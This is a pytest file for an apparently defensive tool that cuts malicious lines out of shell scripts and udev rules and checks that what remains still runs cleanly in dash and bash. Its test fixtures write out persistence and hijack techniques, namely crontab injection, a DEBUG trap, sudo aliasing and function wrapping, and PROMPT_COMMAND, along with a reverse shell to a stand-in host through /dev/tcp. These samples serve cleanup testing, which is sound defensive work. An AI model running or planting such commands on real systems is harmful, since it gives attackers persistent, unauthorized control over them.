"""A line of a shell script goes: real shells read what is left without an error, run all of it, and nothing of the line."""

from __future__ import annotations

import shutil
import subprocess

import pytest

from hunter.objects._shell import is_shell, removed
from hunter.objects._text import continued, find_line, without
from tests.conftest import need

SCRIPTS: list[tuple[str, str | tuple[str, ...]]] = [
    ("if [ -x /tmp/x ]; then\n  /tmp/x &\nfi\necho ok\n", "  /tmp/x &"),
    ("if [ -x /tmp/x ]; then\n  /tmp/x &\nelse\n  echo no >/dev/null\nfi\necho ok\n", "  /tmp/x &"),
    ("if [ -x /etc/passwd ]\nthen\n# c\n\n  /tmp/x &\nfi\necho ok\n", "  /tmp/x &"),
    ("for i in 1 2; do\n/tmp/x\ndone\necho ok", "/tmp/x"),
    ("f() {\n/tmp/x\n}\nf\necho ok\n", "/tmp/x"),
    ("(\n/tmp/x\n)\necho ok\n", "/tmp/x"),
    ("if /tmp/x; then\n echo no\nfi\necho ok\n", "if /tmp/x; then"),
    ("if /tmp/x\nthen\n echo no\nfi\necho ok\n", "if /tmp/x"),
    ("while /tmp/x; do\n echo no\ndone\necho ok\n", "while /tmp/x; do"),
    ("until /tmp/x\ndo\n echo no\ndone\necho ok\n", "until /tmp/x"),
    ("for x in $(/tmp/x); do\n echo no $x\ndone\necho ok\n", "for x in $(/tmp/x); do"),
    ("{\n echo hi >/dev/null\n} | /tmp/x\necho ok\n", "} | /tmp/x"),
    ("while read a; do\n : \ndone < /tmp/x\necho ok\n", "done < /tmp/x"),
    ("true && \\\n /tmp/x\necho ok\n", " /tmp/x"),
    ("true &&\n /tmp/x\necho ok\n", " /tmp/x"),
    ("/tmp/x \\\n --a \\\n --b\necho ok\n", "/tmp/x \\"),
    ("if true; then /tmp/x; fi\necho ok\n", "if true; then /tmp/x; fi"),
    ("case a in\n a)\n /tmp/x\n ;;\nesac\necho ok\n", " /tmp/x"),
    ("[ -x /tmp/x ] && (/tmp/x &) # c\necho ok\n", "[ -x /tmp/x ] && (/tmp/x &) # c"),
    ("echo 'if then do' ; /tmp/x\necho ok\n", "echo 'if then do' ; /tmp/x"),
    ("nohup /tmp/x >/dev/null 2>&1 &\necho ok\n", "nohup /tmp/x >/dev/null 2>&1 &"),
    ("python3 -c 'import os; (os.system(\"x\"))'\necho ok", "python3 -c 'import os; (os.system(\"x\"))'"),
    ("(crontab -l; echo '* * * * * /tmp/x') | crontab -\necho ok\n", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"),
    ("eval $(/tmp/x)\necho ok\n", "eval $(/tmp/x)"),
    ("function g {\n/tmp/x\n}\necho ok\n", "/tmp/x"),
    ("if true; then\n /tmp/x\n /tmp/y\nfi\necho ok\n", (" /tmp/x", " /tmp/y")),
    ("echo a; fi_x=1; done_y=2; /tmp/x\necho ok\n", "echo a; fi_x=1; done_y=2; /tmp/x"),
    ("trap '/tmp/x' DEBUG\necho ok\n", "trap '/tmp/x' DEBUG"),
    ("alias sudo='/tmp/x'\necho ok\n", "alias sudo='/tmp/x'"),
    ("[ -f /tmp/x ] && . /tmp/x\necho ok\n", "[ -f /tmp/x ] && . /tmp/x"),
    ('sudo() { /tmp/x; command sudo "$@"; }\necho ok\n', 'sudo() { /tmp/x; command sudo "$@"; }'),
    ("while :; do /tmp/x; sleep 1; done &\necho ok\n", "while :; do /tmp/x; sleep 1; done &"),
    ("export PROMPT_COMMAND='/tmp/x;'\necho ok\n", "export PROMPT_COMMAND='/tmp/x;'"),
    ("bash -i >& /dev/tcp/1.2.3.4/5 0>&1\necho ok\n", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1"),
    (
        "if pgrep x || ! /tmp/x; then\n echo no\nelif /tmp/z; then\n echo no\nfi\necho ok\n",
        ("if pgrep x || ! /tmp/x; then", "elif /tmp/z; then"),
    ),
    ("case $1 in start) /tmp/x ;; esac\necho ok\n", "case $1 in start) /tmp/x ;; esac"),
    ("case start in\n start) /tmp/x ;;\n *) echo no;;\nesac\necho ok\n", " start) /tmp/x ;;"),
    ("case start in\n start|go) /tmp/x\n ;;\n *) echo no;;\nesac\necho ok\n", " start|go) /tmp/x"),
    ("case $1 in a) true;; b) /tmp/x;; esac; echo $(/tmp/x)\necho ok\n", "case $1 in a) true;; b) /tmp/x;; esac; echo $(/tmp/x)"),
    ("if true; then (/tmp/x); fi\necho ok\n", "if true; then (/tmp/x); fi"),
    ("x=$((1+2)); /tmp/x $x\necho ok\n", "x=$((1+2)); /tmp/x $x"),
    ("  /tmp/x 2>&1 | logger -t x\necho ok\n", "  /tmp/x 2>&1 | logger -t x"),
    ("cat <<E >/dev/null\nfi\nE\n/tmp/x\necho ok\n", "/tmp/x"),
    ("if false; then\n echo no\nelse /tmp/x\n true\nfi\necho ok\n", "else /tmp/x"),
    ("if true\nthen /tmp/x\nelse echo no\nfi\necho ok\n", "then /tmp/x"),
    ("for i in 1\ndo /tmp/x\ndone\necho ok\n", "do /tmp/x"),
    ("if true; then /tmp/x\nfi\necho ok\n", "if true; then /tmp/x"),
    ("while /tmp/x; do echo no\ndone\necho ok\n", "while /tmp/x; do echo no"),
    ("for i in $(/tmp/x); do echo no\ndone\necho ok\n", "for i in $(/tmp/x); do echo no"),
    ("if false; then\n echo no\nelif /tmp/x; then echo no\nelse\n echo ok\nfi\n", "elif /tmp/x; then echo no"),
    ("if true; then\n if /tmp/x; then echo no; fi\nfi\necho ok\n", " if /tmp/x; then echo no; fi"),
    ("# don't\n/tmp/x # it's\necho ok\n", "/tmp/x # it's"),
    ("/tmp/x <<EOF\nfi\n/tmp/y $(rm)\nEOF\necho ok\n", "/tmp/x <<EOF"),
    ("if true; then\n\t/tmp/x <<-'E F' | /tmp/y\n\tdone\n\tE F\nfi\necho ok\n", "\t/tmp/x <<-'E F' | /tmp/y"),
    ("/tmp/x <<A <<\\B; echo no\nA \nA\n/tmp/z\nB\necho ok\n", "/tmp/x <<A <<\\B; echo no"),
    ("if /tmp/x <<E; then\n/tmp/in\nE\n echo no\nfi\necho ok\n", "if /tmp/x <<E; then"),
    ("true && \\\n /tmp/x <<E\n/tmp/in\nE\necho ok\n", "true && \\"),
    ("cat <<E >/dev/null\nif /tmp/x; then\nE\necho ok\n", "if /tmp/x; then"),
    ("cat <<'E' >/dev/null\nfi\n/tmp/x \\\nE\necho ok\n", "/tmp/x \\"),
    ("x=$((1<<2)); /tmp/x $x\necho ok\n", "x=$((1<<2)); /tmp/x $x"),
    ("/tmp/x '<<E' # <<E\necho ok\nexit\nE\n", "/tmp/x '<<E' # <<E"),
    ("/tmp/x <<<E\necho ok\nexit\nE\n", "/tmp/x <<<E"),
]
"""(script, guilty lines): without them, each prints `ok` and nothing else"""


@pytest.mark.parametrize(("script", "guilty"), SCRIPTS)
@pytest.mark.parametrize("shell", ["dash", "bash"])
def test_what_is_left_runs_as_before(shell, script, guilty) -> None:
    need(shutil.which(shell), shell)
    if shell == "dash" and ("function" in script or "<<<" in script):
        return
    data, cuts, puts = script.encode(), [], []
    for line in (guilty,) if isinstance(guilty, str) else guilty:
        (cut,), _ = find_line(data, line.encode())
        more = removed(data, cut)
        cuts, puts = cuts + more[0], puts + more[1]
    left = without(data, cuts, puts)
    done = subprocess.run([shell, "-s"], input=left, capture_output=True, timeout=60, check=False)
    assert (done.stdout, done.stderr) == (b"ok\n", b""), left
    assert b"/tmp/" not in left.replace(b"[ -x /tmp/x ]", b"")


@pytest.mark.parametrize(
    "line",
    [
        "{",
        "fi",
        "case $x in",
        "f() {",
        "if true; then if /tmp/x; then",
        "if true; then { /tmp/x",
        "fi; if /tmp/x; then",
        "/tmp/x; }",
        "echo 'a",
        "/tmp/x; fi",
        "else if /tmp/x; then",
    ],
)
def test_what_would_leave_a_block_or_a_text_in_pieces_is_refused(line) -> None:
    data = f"{line}\necho ok\n".encode()
    (cut,), _ = find_line(data, line.encode())
    with pytest.raises(ValueError, match=r"by hand|take out the others"):
        removed(data, cut)


def test_the_end_of_a_text_within_a_script_stays() -> None:
    data = b"cat <<E\nx\nE\necho ok\n"
    (cut,), _ = find_line(data, b"E")
    with pytest.raises(ValueError, match="ends a text within the script"):
        removed(data, cut)


def test_a_line_with_cr_keeps_the_line_ends_of_its_file() -> None:
    data = b"if true; then\r\n\t/tmp/x\r\nfi\r\n"
    (cut,), _ = find_line(data, b"\t/tmp/x")
    assert without(data, *removed(data, cut)) == b"if true; then\r\n\t:\r\nfi\r\n"


@pytest.mark.parametrize(
    ("path", "data", "is_one"),
    [
        ("/etc/rc.local", b"", True),
        ("/etc/profile.d/x.sh", b"", True),
        ("/root/.bashrc", b"", True),
        ("/etc/init.d/x", b"#!/bin/sh\n", True),
        ("/etc/init.d/x", b"#!/usr/bin/env python3\n", False),
        ("/etc/cron.d/x", b"", False),
        ("/etc/ld.so.conf", b"", False),
        ("/etc/grub.d/40_custom", b"#! /bin/sh -e\n", True),
        ("/home/a/.config/fish/config.fish", b"", False),
    ],
)
def test_a_script_is_known_by_its_first_line_or_its_name(path, data, is_one) -> None:
    assert is_shell(path, data) is is_one


RULE = b'ACTION=="add", \\\n  RUN+="/tmp/x"\nSUBSYSTEM=="net", NAME="a"\n'


@pytest.mark.parametrize(
    ("line", "left"),
    [
        (b'ACTION=="add", \\', b'SUBSYSTEM=="net", NAME="a"\n'),
        (b'  RUN+="/tmp/x"', b'ACTION=="add", \\\n\nSUBSYSTEM=="net", NAME="a"\n'),
        (b'SUBSYSTEM=="net", NAME="a"', RULE[: RULE.index(b"SUB")]),
    ],
)
def test_a_line_of_udev_goes_with_what_it_goes_on_in_and_never_joins_two_rules(line, left) -> None:
    (cut,), _ = find_line(RULE, line)
    assert without(RULE, *continued(RULE, cut)) == left
